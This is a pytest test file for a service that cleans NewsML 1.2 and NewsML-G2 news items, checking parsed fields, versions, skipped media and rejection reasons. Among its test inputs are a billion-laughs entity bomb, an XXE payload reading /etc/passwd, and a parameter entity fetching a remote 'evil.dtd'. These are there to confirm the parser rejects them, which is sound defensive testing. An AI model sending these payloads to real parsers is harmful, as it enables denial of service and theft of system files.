"""NewsML 1.2 (BusinessWire's four items) and NewsML-G2 on the raw topic, and XML that must never be trusted."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from services.cleaner.logic import process
from services.config import CleanerOptions
from services.contract.errors import RejectedInput
from services.contract.messages import CleanArticle, PubStatus, RawArticle, RejectReason, SkippedItem, SkipReason
from services.contract.outputs import Output

NEWSML = Path(__file__).resolve().parents[2] / "data" / "newsml"
RECEIVED = datetime(2025, 12, 13, 18, 0, tzinfo=UTC)
BUSINESSWIRE = {
    "businesswire-newsml-20130515006361.xml": ("en", "Dell today announced an expanded and stronger Dell Precision"),
    "businesswire-newsml-20130605006126.xml": ("zh", "(美國商業資訊)--為透明及軟性導體市場提供銀奈米線解決方案"),
    "businesswire-newsml-20130612006110.xml": ("zh", "亚洲浆纸业有限公司（Asia Pulp & Paper, 以下简称 APP）"),
    "businesswire-newsml-20130731006140.xml": ("en", "With more Applebee’s® Lunch Combos than ever"),
}


def outputs(data: bytes) -> list[Output]:
    return process(data, CleanerOptions(), RECEIVED)


def cleaned(data: bytes) -> CleanArticle:
    (output,) = outputs(data)
    assert output.topic == "clean" and isinstance(output.value, CleanArticle)
    return output.value


def rejected(data: bytes) -> RejectedInput:
    with pytest.raises(RejectedInput) as caught:
        process(data, CleanerOptions(), RECEIVED)
    return caught.value


def businesswire(name: str = "businesswire-newsml-20130731006140.xml") -> str:
    return (NEWSML / name).read_text()


@pytest.mark.parametrize("name", sorted(BUSINESSWIRE))
def test_businesswire_newsml_1_2_items(name: str) -> None:
    language, opening = BUSINESSWIRE[name]
    article = cleaned((NEWSML / name).read_bytes())
    item_id = name.removeprefix("businesswire-newsml-").removesuffix(".xml")
    assert article.uri == f"urn:newsml:businesswire.com:20010714:{item_id}"
    assert (article.source, article.language, article.version) == ("Business Wire", language, 1)
    assert (article.pub_status, article.wire_format, article.language_detected) == (PubStatus.USABLE, "newsml", False)
    assert article.text.startswith(opening)
    assert article.title and article.located
    assert article.word_count > 100
    # The Contact, StyleSheet and HeadLine components are not the body.
    assert "@" not in article.text and "bwalignc" not in article.text and not article.text.startswith(article.title)
    assert article.subjects, "BusinessWire's keywords are the item's subjects"


def test_businesswire_fields() -> None:
    article = cleaned(businesswire().encode())
    assert article.title == "Lunch Taking a Toll? Let Applebee’s® Industrial Strength Lunch Decoy Stand In"
    assert article.located == "KANSAS CITY, Mo."
    assert article.version_created == article.first_created == datetime(2013, 7, 31, 15, 32, tzinfo=UTC)
    assert [s.name for s in article.subjects][:3] == ["Other Consumer", "United States", "North America"]


def test_every_revision_of_an_item_has_one_id() -> None:
    first = cleaned(businesswire().encode())
    revised = businesswire().replace('<RevisionId PreviousRevision="0" Update="N">1</RevisionId>',
                                     '<RevisionId PreviousRevision="1" Update="N">2</RevisionId>')
    second = cleaned(revised.encode())
    assert (second.article_id, second.version) == (first.article_id, 2)


def test_a_doctype_that_names_the_newsml_dtd_is_harmless() -> None:
    # Real NewsML 1.2 feeds send this line; the DTD is never loaded (nothing is fetched) and nothing is expanded.
    with_doctype = ('<!DOCTYPE NewsML PUBLIC "urn:newsml:iptc.org:20031010:NewsMLv1.2:1" '
                    '"http://unreachable.invalid/NewsMLv1.2.dtd">' + businesswire().lstrip())
    assert cleaned(with_doctype.encode()).text == cleaned(businesswire().encode()).text


def test_a_wrapped_newsml_document_with_a_foreign_encoding_declaration() -> None:
    xml = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + businesswire().lstrip()
    envelope = RawArticle(source="bw-feed", body=xml, content_type="application/xml", url="https://example.com/x")
    article = cleaned(envelope.model_dump_json().encode())
    assert (article.source, article.url) == ("bw-feed", "https://example.com/x")
    assert "Applebee’s®" in article.text, "the text inside JSON is Unicode whatever the declaration says"


def test_newsml_g2_news_item() -> None:
    article = cleaned((NEWSML / "g2_newsitem.xml").read_bytes())
    assert (article.uri, article.version, article.wire_format) == (
        "urn:newsml:example.com:20251213:harbour-ferry-g2", 1, "newsml_g2")
    assert (article.source, article.language, article.urgency, article.located) == (
        "Example Wire", "en-GB", 3, "Northport")
    assert article.title == "Storm halts ferry crossings across the northern harbour"
    assert article.authors == ["Ann Example"]
    assert [s.code for s in article.subjects] == ["medtop:17000000", "medtop:04015000"]
    assert article.first_created == datetime(2025, 12, 13, 6, 40, tzinfo=UTC)
    assert "Storm halts ferry crossings" not in article.text.split("\n\n")[1]
    assert article.text.split("\n\n")[1].startswith("NORTHPORT — Ferry crossings across the northern harbour were")
    assert "Storm halts ferry crossings</title>" not in article.text


def test_newsml_g2_versions_and_withdrawal() -> None:
    xml = (NEWSML / "g2_newsitem.xml").read_text()
    first = cleaned(xml.encode())
    canceled = xml.replace('version="1"', 'version="2"').replace("stat:usable", "stat:canceled")
    withdrawal = cleaned(canceled.encode())
    assert (withdrawal.article_id, withdrawal.version, withdrawal.pub_status) == (
        first.article_id, 2, PubStatus.CANCELED)


def test_newsml_g2_news_message_items_one_by_one() -> None:
    text, picture, planning = outputs((NEWSML / "g2_newsmessage.xml").read_bytes())
    assert isinstance(text.value, CleanArticle)
    assert text.value.text == ("The harbour bridge reopened to lorries on Saturday evening after the wind eased, the "
                               "port authority said.\n\nFerry crossings are due to resume on Sunday morning.")
    assert (text.value.version, text.value.published_at) == (2, datetime(2025, 12, 13, 6, 55, tzinfo=UTC))
    assert isinstance(picture.value, SkippedItem) and picture.value.reason is SkipReason.MEDIA_ONLY
    assert isinstance(planning.value, SkippedItem) and planning.value.reason is SkipReason.EVENT_ITEM
    assert picture.topic == planning.topic == "skipped"


def test_a_wrapped_g2_item_takes_the_envelopes_source() -> None:
    envelope = RawArticle(source="example-feed", body=(NEWSML / "g2_newsitem.xml").read_text(),
                          content_type="application/vnd.iptc.g2.newsitem+xml")
    wrapped = cleaned(envelope.model_dump_json().encode())
    bare = cleaned((NEWSML / "g2_newsitem.xml").read_bytes())
    assert (wrapped.source, wrapped.article_id, wrapped.text) == ("example-feed", bare.article_id, bare.text)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE NewsML [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<NewsML Version="1.2"><NewsItem><HeadLine>&lol9;</HeadLine></NewsItem></NewsML>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x" version="1">
  <contentSet><inlineData contenttype="text/plain">&secret;</inlineData></contentSet>
</newsItem>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE NewsML [ <!ENTITY % remote SYSTEM "http://unreachable.invalid/evil.dtd"> %remote; ]>
<NewsML Version="1.2"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-parameter-entity"])
def test_xml_that_declares_entities_is_rejected_unexpanded(data: bytes) -> None:
    error = rejected(data)
    assert error.reason is RejectReason.UNSAFE_XML
    assert "root:" not in error.detail and "lollol" not in error.detail


def test_unsafe_xml_wrapped_in_an_envelope_is_rejected_too() -> None:
    envelope = RawArticle(source="x", body=BILLION_LAUGHS.decode(), content_type="application/xml")
    assert rejected(envelope.model_dump_json().encode()).reason is RejectReason.UNSAFE_XML


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        pytest.param(b"<NewsML Version='1.2'><NewsItem>", RejectReason.INVALID_XML, id="truncated"),
        pytest.param(b"<NewsML><a></b></NewsML>", RejectReason.INVALID_XML, id="mismatched-tags"),
        pytest.param(b"<html><body><p>A web page, not a news item.</p></body></html>", RejectReason.UNKNOWN_FORMAT,
                     id="html-page"),
        pytest.param(b'<rss version="2.0"><channel/></rss>', RejectReason.UNKNOWN_FORMAT, id="rss"),
        pytest.param(b'<newsItem guid="urn:x" version="1"/>', RejectReason.UNKNOWN_FORMAT, id="g2-without-namespace"),
        pytest.param(b'<NewsML Version="1.2"/>', RejectReason.NO_TEXT, id="newsml-no-items"),
        pytest.param(b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" version="1"/>',
                     RejectReason.INVALID_MESSAGE, id="g2-without-guid"),
        pytest.param(b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x" version="two"/>',
                     RejectReason.INVALID_MESSAGE, id="g2-version-not-a-number"),
        pytest.param(b'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x" version="1">'
                     b"<contentSet/></newsItem>", RejectReason.NO_TEXT, id="g2-no-text"),
    ],
)
def test_bad_xml_goes_to_the_dlq_with_a_reason(data: bytes, reason: RejectReason) -> None:
    assert rejected(data).reason is reason


def _without_body(xml: str) -> str:
    start = xml.index('<Role FormalName="Body"/>')
    component_start = xml.rindex("<NewsComponent>", 0, start)
    component_end = xml.index("</NewsComponent>", start) + len("</NewsComponent>")
    return xml[:component_start] + xml[component_end:]


def test_newsml_with_no_text_goes_to_the_dlq() -> None:
    # The Cambrios item without its Body component: a stylesheet, a contact block and a logo are no article.
    xml = _without_body(businesswire("businesswire-newsml-20130605006126.xml"))
    assert 'FormalName="Contact"' in xml
    error = rejected(xml.encode())
    assert error.reason is RejectReason.NO_TEXT
    assert "urn:newsml:businesswire.com:20010714:20130605006126" in error.detail


def test_newsml_with_only_pictures_and_video_is_passed_over() -> None:
    (output,) = outputs(_without_body(businesswire()).encode())  # the Applebee's item keeps its Video component
    assert isinstance(output.value, SkippedItem)
    assert (output.value.reason, output.value.wire_format) == (SkipReason.MEDIA_ONLY, "newsml")
